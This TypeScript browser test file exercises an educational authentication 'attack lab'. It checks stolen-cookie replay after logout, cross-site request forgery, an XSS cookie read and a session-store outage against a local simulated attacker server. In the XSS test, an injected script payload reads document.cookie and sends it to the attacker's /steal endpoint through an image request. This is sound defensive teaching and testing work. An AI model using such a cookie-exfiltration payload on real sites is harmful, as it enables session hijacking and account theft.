// The attack lab in a real Chromium against the real lab (SQLite on a temp dir) and the attacker's
// server on a second origin: a stolen cookie after logout with revocation off and on, CSRF from
// the other site, XSS reading document.cookie, and a store outage with its recovery. Requests are
// sent from inside the page, so the browser — not the test — decides which cookies go along.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { startAttacker, type AttackerServer } from '../../server/lab/attacker.js';
import { startLab, type TestLab } from '../helpers.js';
import { buildClient, chromiumAvailable, inPage, launchChromium } from './browser.js';

const LIMITS = { perAccount: { limit: 1000, windowMs: 60_000 }, perAddress: { limit: 1000, windowMs: 60_000 } };

let lab: TestLab;
let attacker: AttackerServer;
let browser: Browser;

interface Answer {
  status: number;
  body: { error?: string; user?: { username: string }; following?: string[] } | null;
}

/** fetch() from inside the page: same origin, the browser's own cookies. */
function api(page: Page, method: string, path: string, body?: unknown): Promise<Answer> {
  const init = body === undefined ? { method } : { method, headers: { 'Content-Type': 'application/json' }, body: JSON.stringify(body) };
  return inPage<Answer>(
    page,
    `fetch(${JSON.stringify(path)}, ${JSON.stringify(init)}).then(async (r) => ({ status: r.status, body: r.status === 204 ? null : await r.json() }))`,
  );
}

async function labPage(): Promise<{ context: BrowserContext; page: Page }> {
  const context = await browser.newContext();
  context.setDefaultTimeout(10_000);
  const page = await context.newPage();
  await page.goto(`${lab.url}/api/health`); // any page of the lab's origin; it sets the lab cookie
  return { context, page };
}

async function logInBoth(page: Page): Promise<void> {
  for (const flow of ['session', 'jwt']) {
    expect((await api(page, 'POST', `/api/${flow}/login`, { username: 'alice', password: 'wonderland' })).status).toBe(200);
  }
}

/** Opens the attacker's page in a new tab; it submits its form; returns the lab's answer and the cookies the browser sent. */
async function attack(context: BrowserContext, flow: string, action: 'logout' | 'follow'): Promise<{ status: number; cookies: string }> {
  const tab = await context.newPage();
  const answer = tab.waitForResponse((r) => r.url().startsWith(lab.origin) && r.request().method() === 'POST');
  await tab.goto(`${attacker.origin}/csrf?flow=${flow}&action=${action}`, { waitUntil: 'commit' }); // it navigates away at once
  const response = await answer;
  const headers = await response.request().allHeaders();
  expect(headers.origin).toBe(attacker.origin); // a real cross-site request
  await tab.close();
  return { status: response.status(), cookies: headers.cookie ?? '' };
}

const available = chromiumAvailable();

describe.skipIf(!available)('the attack lab in Chromium', () => {
  beforeAll(async () => {
    lab = await startLab({}, { loginLimits: LIMITS, clientDir: await buildClient() });
    attacker = await startAttacker(lab.origin);
    lab.attacker.origin = attacker.origin;
    browser = await launchChromium();
  });
  afterAll(async () => {
    await browser?.close();
    await attacker?.close();
    await lab?.stop();
  });

  it('stolen cookie after logout: the JWT copy works with revocation off and is refused with it on', async () => {
    const { context, page } = await labPage();
    for (const denylist of [false, true]) {
      expect((await api(page, 'PUT', '/api/lab', { denylist })).status).toBe(200);
      await logInBoth(page);
      for (const flow of ['session', 'jwt']) expect((await api(page, 'POST', `/api/${flow}/logout`)).status).toBe(204);
      const session = await api(page, 'POST', '/api/session/replay');
      const jwt = await api(page, 'POST', '/api/jwt/replay');
      expect(session.status).toBe(401);
      if (denylist) {
        expect(jwt.status).toBe(401);
        expect(jwt.body?.error).toMatch(/revoked/);
      } else {
        expect(jwt.status).toBe(200);
        expect(jwt.body?.user?.username).toBe('alice');
      }
    }
    await context.close();
  });

  it('CSRF from the second origin: SameSite=Lax withholds the cookies, the origin check refuses; with both off it succeeds', async () => {
    const { context, page } = await labPage();
    await logInBoth(page);
    for (const flow of ['session', 'jwt']) {
      const follow = await attack(context, flow, 'follow');
      expect(follow.status).toBe(403);
      expect(follow.cookies).not.toMatch(/(^|; )(sid|token|lab)=/); // Lax: not sent cross-site at all
      expect((await attack(context, flow, 'logout')).status).toBe(403);
      expect((await api(page, 'GET', `/api/${flow}/me`)).status).toBe(200);
    }

    // SameSite=None (log in again so the cookies are re-set with it): the cookies now go along,
    // and the origin check alone still refuses.
    await api(page, 'PUT', '/api/lab', { sameSite: 'none' });
    await logInBoth(page);
    for (const flow of ['session', 'jwt']) {
      const follow = await attack(context, flow, 'follow');
      expect(follow.cookies).toMatch(flow === 'session' ? /(^|; )sid=/ : /(^|; )token=/);
      expect(follow.status).toBe(403);
    }

    // The check off as well: the attack works on both flows.
    await api(page, 'PUT', '/api/lab', { csrfCheck: false });
    for (const flow of ['session', 'jwt']) {
      expect((await attack(context, flow, 'follow')).status).toBe(204);
      expect((await api(page, 'GET', `/api/${flow}/following`)).body?.following).toEqual(['mallory']);
      expect((await attack(context, flow, 'logout')).status).toBe(204);
      expect((await api(page, 'GET', `/api/${flow}/me`)).status).toBe(401);
    }
    await context.close();
  });

  it('XSS reading cookies: HttpOnly cookies are invisible; the original-post token is read and sent away', async () => {
    const { context, page } = await labPage();
    await logInBoth(page);
    // What an injected script would run: read document.cookie, send it to the attacker's site.
    const inject = (id: string) => {
      const payload = `window.__stolen = document.cookie; new Image().src = ${JSON.stringify(`${attacker.origin}/steal?id=${id}&c=`)} + encodeURIComponent(document.cookie);`;
      return inPage<string>(
        page,
        `(() => { const script = document.createElement('script'); script.textContent = ${JSON.stringify(payload)}; document.body.append(script); return window.__stolen; })()`,
      );
    };
    expect(await inject('11'.repeat(16))).toBe('');

    await api(page, 'PUT', '/api/lab', { originalPost: true });
    expect((await api(page, 'POST', '/api/jwt/login', { username: 'alice', password: 'wonderland' })).status).toBe(200);
    const seen = await inject('22'.repeat(16));
    expect(seen).toMatch(/(^|; )token=/);
    const lootUrl = `${attacker.origin.replace('localhost', '127.0.0.1')}/loot?id=${'22'.repeat(16)}`;
    await expect
      .poll(async () => ((await (await fetch(lootUrl)).json()) as { loot: { claims?: { passwordHash?: string } } | null }).loot?.claims?.passwordHash, {
        timeout: 5_000,
      })
      .toMatch(/^scrypt\$/);
    await context.close();
  });

  it('store outage: the session lane answers 503 while the JWT lane works, and recovers without a restart', async () => {
    const { context, page } = await labPage();
    await logInBoth(page);
    await api(page, 'PUT', '/api/lab', { storeOutage: true });
    const down = await api(page, 'GET', '/api/session/me');
    expect(down.status).toBe(503);
    expect(down.body?.error).toMatch(/session store is unavailable/);
    expect((await api(page, 'GET', '/api/jwt/me')).status).toBe(200);
    await api(page, 'PUT', '/api/lab', { storeOutage: false });
    expect((await api(page, 'GET', '/api/session/me')).status).toBe(200);
    await context.close();
  });

  it("the dashboard's attack panel runs a scenario in one click and shows both flows side by side", async () => {
    const context = await browser.newContext();
    context.setDefaultTimeout(15_000);
    const page = await context.newPage();
    await page.goto(lab.url);
    await page.locator('attack-panel button[data-scenario="stolen-cookie-after-logout"]').click();
    const result = page.locator('attack-panel [data-testid=scenario-result]');
    await expect.poll(() => result.locator('[data-flow=session] [data-verdict]').getAttribute('data-verdict'), { timeout: 10_000 }).toBe('protected');
    expect(await result.locator('[data-flow=jwt] [data-verdict]').getAttribute('data-verdict')).toBe('exposed');
    expect(await result.locator('a').getAttribute('href')).toBe('#/docs/attacks.md#stolen-cookie-after-logout');

    // the restart: two fresh lab processes on this lab's data answer the same cookies
    await page.locator('attack-panel button[data-scenario="server-restart"]').click();
    await expect.poll(() => result.locator('a').getAttribute('href'), { timeout: 30_000 }).toBe('#/docs/attacks.md#server-restart');
    await expect.poll(() => result.locator('[data-flow=jwt]').textContent(), { timeout: 30_000 }).toMatch(/With a new JWT secret: 401/);
    expect(await result.locator('[data-flow=session] [data-verdict]').getAttribute('data-verdict')).toBe('protected');
    await context.close();
  });
});
